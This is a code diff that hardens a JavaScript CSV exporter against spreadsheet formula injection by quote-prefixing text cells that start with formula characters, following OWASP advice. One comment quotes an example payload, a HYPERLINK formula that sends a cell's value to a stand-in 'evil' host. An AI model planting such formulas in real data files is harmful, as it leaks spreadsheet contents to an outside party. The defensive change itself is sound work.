@@ -83,16 +83,25 @@ export function nextSort(current, col) {
   return null;
 }
 
+// A text cell a spreadsheet would run as a formula (=, +, -, @, tab or CR
+// first) unless it is a plain number: a data file can carry
+// =HYPERLINK("http://evil/?"&A1) into an analyst's spreadsheet.
+const formulaStart = /^[=+\-@\t\r]/;
+const plainNumber = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;
+
 function csvField(v) {
   if (v === null || v === undefined) return '';
-  const s = typeof v === 'object' ? JSON.stringify(v) : String(v);
+  let s = typeof v === 'object' ? JSON.stringify(v) : String(v);
+  if (typeof v === 'string' && formulaStart.test(s) && !plainNumber.test(s)) s = `'${s}`;
   return /[",\r\n]/.test(s) || /^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
 
 /**
  * toCSV writes RFC 4180 CSV: a header row, CRLF line ends, fields quoted when
  * they hold a comma, quote, line break or edge spaces; nulls are empty fields.
- * Values are written exactly as the result holds them.
+ * Values are written as the result holds them, except that text a
+ * spreadsheet would run as a formula is prefixed with a single quote (OWASP's
+ * advice on CSV injection); numbers, and text that is a plain number, are not.
  */
 export function toCSV(columns, rows) {
   const lines = [columns.map((c) => csvField(c.name)).join(',')];
